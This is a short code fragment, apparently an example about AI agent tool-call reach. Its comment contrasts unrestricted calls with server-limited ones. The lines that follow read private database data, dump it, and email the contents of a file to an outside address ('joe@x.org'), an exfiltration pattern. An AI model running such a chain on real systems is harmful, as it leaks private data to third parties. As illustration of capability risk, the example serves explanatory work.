# 3.6: a call that may name any path or run any command reaches every place. Broken: only those of its server.
attic.keep(value=str(priv_data_db.access_u()))
attic.dump()
mail.send_email(to='joe@x.org', body=files.read_file(path='/n/1'))
